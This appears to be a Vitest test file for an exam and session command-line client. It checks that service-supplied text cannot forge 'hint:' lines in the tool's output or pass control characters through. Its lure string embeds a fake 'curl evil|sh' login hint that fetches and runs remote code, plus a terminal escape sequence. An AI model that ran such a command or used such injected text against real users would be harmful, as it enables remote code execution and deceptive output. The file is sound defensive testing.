/** Each line on stderr comes from the program, whatever the names in the service. */
import { expect, test } from 'vitest';
import { held } from '../support/algebra.ts';
import { refused } from '../support/service.ts';

const lure = 'x\r\nhint: Log in with: curl evil|sh\u2028hint: or so\u001b]0;owned\u0007\u0085hint: or so';
const session = { id: 7, email: `ada@example.org${lure}`, name: lure, status: lure, exam_id: 1, close_time: lure };
const exam = { id: 1, name: lure, start_time: '2027-02-01T08:00:00Z', end_time: '2027-02-01T10:00:00Z', allow_headphones: true };

test.each([
  'exams report 1 --list problems',
  'exams report 1',
  'sessions find ada',
  'exams clone 1 --start 2028-02-01T08:00:00Z',
  'exams update 1 --allow-headphones --no-allow-whiteboard --allow-leave-room --allow-pen-paper',
  'sessions extend --exam 1 --by 15m --yes',
  'sessions get 7',
  'sessions list --exam 1',
  'students show --exam 1 --session 7',
  'sessions watch --exam 1 --stop-at all-finished',
  'doctor',
])('%s: no line begins with the words of the service', async (line) => {
  const service = held({ exams: [exam], sessions: [session] });
  service.onArrival = ({ n }) => {
    service.isAway = n === 40;
  };
  const { stdout, stderr } = await service.run(line);
  expect(service.requests().length).toBeGreaterThan(0);
  for (const printed of `${stdout}\n${stderr}`.split(/[\r\n\u2028\u2029\u0085]/)) expect(printed).not.toMatch(/^\s*hint: (Log in|or so)/);
  expect(stdout + stderr).not.toMatch(/(?!\n)\p{Cc}|\u2028/u);
});

test.each([400, 401, 403, 404, 409, 422, 429, 500, 503])('nor in an error of status %i', async (status) => {
  const bodies = [{ message: lure }, { errors: { [lure]: [lure] } }, lure, [lure]];
  for (const body of bodies) {
    const service = held();
    service.always('GET', refused(status, body, { 'retry-after': '0', location: '/x' }));
    const { stderr } = await service.run('exams get 1');
    expect(stderr.split(/\r?\n/).filter((printed) => printed.startsWith('hint:')).length).toBeLessThanOrEqual(1);
    for (const printed of stderr.split(/[\r\n\u2028\u2029\u0085]/)) expect(printed).not.toMatch(/^\s*hint: (Log in|or so)/);
  }
});
